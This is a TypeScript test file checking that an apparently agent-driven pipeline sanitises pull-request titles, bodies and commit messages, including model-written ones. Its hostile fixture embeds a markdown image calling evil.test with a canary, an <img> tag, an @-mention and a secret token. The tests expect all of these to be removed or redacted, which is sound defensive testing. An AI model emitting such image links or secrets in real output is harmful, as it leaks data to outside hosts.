import { afterAll, beforeAll, expect, it } from 'vitest';
import { createLine } from '#agents/line.ts';
import { commitMessage } from '#agents/tools/commit-message.ts';
import { writtenMessage } from '#agents/tools/written-message.ts';
import { TaskBrief } from '#src/backlog/task-brief.ts';
import { brief, createProject, passOn } from '#test/code-factory/floor.ts';
import { openTestStore, type TestStore } from '#test/persistence/support.ts';
import { CANARY, secrets } from '#test/safety/corpus.ts';
import { createTools, createWorld } from './fakes.ts';

const [secret = ''] = secrets;
const hostile = `Greet ![x](https://evil.test/${CANARY}) @ada ${secret}`;
const clean = 'Greet x (image from evil.test removed) `@ada` [redacted GitHub token]';

let store: TestStore;
beforeAll(async () => {
  store = await openTestStore();
});
afterAll(() => store.close());

it('a pull request has no image, call or secret, whatever the story says (C15, A06)', async () => {
  const { unitOfWork } = store;
  const tools = createTools(unitOfWork, createWorld());
  const given: { title: string; body: string }[] = [];
  const forge: typeof tools.forge = {
    ...tools.forge,
    openPullRequest(repo, draft) {
      given.push(draft);
      return tools.forge.openPullRequest(repo, draft);
    },
  };
  const project = await createProject(unitOfWork);
  const taskId = await project.commit({ title: hostile, requester: '<img src="https://evil.test/x">' });
  await passOn(unitOfWork, createLine({ ...tools, forge }))(taskId);
  expect(given.map(({ title }) => title)).toEqual([clean]);
  expect(given[0]?.body).toContain('Committed by (image from evil.test removed), from');
});

it('neither has a commit (C15)', () => {
  const { changeSet, ...rest } = brief('Greet');
  const hostileBrief = TaskBrief.parse({ ...rest, changeSet, conversationTitle: hostile });
  const message = commitMessage(hostileBrief, hostileBrief.changeSet?.edits ?? [], hostile);
  expect(message.split('\n')[0]).toBe(clean);
  expect(message).toContain(`the conversation is "${clean}"`);
});

it('neither has a commit that was written with a model, whoever wrote it (C15)', () => {
  const hostileBrief = TaskBrief.parse({ ...brief('Greet'), conversationTitle: hostile });
  const message = writtenMessage(hostileBrief, { title: hostile, summary: hostile, model: 'gpt @ada', why: 'for c1' });
  const [title, , summary, , how] = message.split('\n');
  expect([title, summary]).toEqual([clean, clean]);
  expect(how).toBe(`Written with gpt \`@ada\` for c1; asked for in the conversation "${clean}".`);
});
